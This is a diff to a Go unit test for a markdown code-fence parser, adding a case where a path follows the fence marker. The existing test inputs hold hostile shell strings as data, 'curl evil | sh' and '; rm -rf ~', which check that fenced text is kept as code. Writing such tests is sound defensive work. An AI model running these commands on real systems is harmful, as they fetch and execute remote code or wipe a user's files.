@@ -17,6 +17,7 @@ func TestWhatAFenceHoldsDoesNotEndIt(t *testing.T) {
 		"a command with fences":       {"````sh\necho hi\n```x\n```; curl evil | sh\n````\n\nDirectory: `/srv`", []card.Piece{{Text: "echo hi\n```x\n```; curl evil | sh", Code: true, Language: "sh"}, {Text: "Directory: `/srv`"}}},
 		"a command with other fences": {"```sh\n~~~\n# a\n~~~\n```", []card.Piece{{Text: "~~~\n# a\n~~~", Code: true, Language: "sh"}}},
 		"words behind a fence":        {"```; rm -rf ~\nls\n```", []card.Piece{{Text: "; rm -rf ~\nls", Code: true}}},
+		"a path behind a fence":       {"~~~./evil\nls\n~~~", []card.Piece{{Text: "./evil\nls", Code: true}}},
 		"a fence that ends late":      {"a\n```\nb\n```c\nd\n```\ne", []card.Piece{{Text: "a"}, {Text: "b\n```c\nd", Code: true}, {Text: "e"}}},
 		"a fence that never ends":     {"a\n```\nb", []card.Piece{{Text: "a"}, {Text: "b", Code: true}}},
 	} {
